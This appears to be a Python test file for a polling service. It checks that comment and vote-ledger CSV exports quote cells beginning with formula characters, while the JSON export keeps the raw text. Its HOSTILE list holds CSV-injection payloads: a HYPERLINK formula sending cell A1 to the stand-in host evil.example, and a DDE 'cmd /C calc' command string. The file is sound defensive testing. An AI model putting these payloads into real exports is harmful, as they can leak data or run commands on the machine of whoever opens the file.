"""The ledger and comment exports as a spreadsheet would open them: no cell starts a
formula (core/spreadsheet.py), while the JSON export keeps the text as given."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import httpx

from service.core.spreadsheet import safe_cell
from tests.conftest import PollMaker
from tests.feedback.test_comments import comment, reader

HOSTILE = [
    '=HYPERLINK("https://evil.example/?x="&A1,"bấm vào")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "=1+1\r\nvà dòng sau",
]


def test_safe_cell_quotes_every_formula_start_and_nothing_else() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(f"{start}x") == f"'{start}x"
    for value in ("Có", "a=b", "https://portal.example.vn/a", "", None, 5, -5):
        assert safe_cell(value) == value


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


async def test_comment_export_quotes_formulas_and_json_keeps_the_text(
    client: httpx.AsyncClient, admin: httpx.AsyncClient, make_poll: PollMaker
) -> None:
    poll = await make_poll(comments="premoderated")
    for body in HOSTILE:
        r = await comment(client, poll, body, name="=cmd|'/C calc'!A0")
        assert r.status_code == 202, r.text
    url = f"/v1/admin/polls/{poll['id']}/export"
    rows = _cells((await admin.get(url, params={"what": "comments"})).text)
    assert sorted(row["body"] for row in rows) == sorted(
        "'" + body.replace("\r\n", "\n") for body in HOSTILE
    )
    assert {row["name"] for row in rows} == {"'=cmd|'/C calc'!A0"}
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
    lines = (await admin.get(url, params={"what": "comments", "format": "json"})).text
    bodies = sorted(json.loads(line)["body"] for line in lines.splitlines())
    assert bodies == sorted(body.replace("\r\n", "\n") for body in HOSTILE)


async def test_ledger_export_keeps_page_urls_and_quotes_nothing_else(
    client: httpx.AsyncClient, admin: httpx.AsyncClient, make_poll: PollMaker
) -> None:
    poll: dict[str, Any] = await make_poll()
    page = "https://portal.example.vn/=1+1/@a"
    for hostile in (page, "=HYPERLINK(1)", "+https://portal.example.vn/x"):
        r = await client.post(
            f"/v1/polls/{poll['id']}/votes",
            json={"choices": [poll["options"][0]["id"]], "page": hostile},
            headers=reader(),
        )
        assert r.status_code == 201, r.text
    rows = _cells((await admin.get(f"/v1/admin/polls/{poll['id']}/export?format=csv")).text)
    # The page rule (core/urls.py) keeps only http(s) pages, which never start a formula.
    assert sorted(row["page_url"] for row in rows) == ["", "", page]
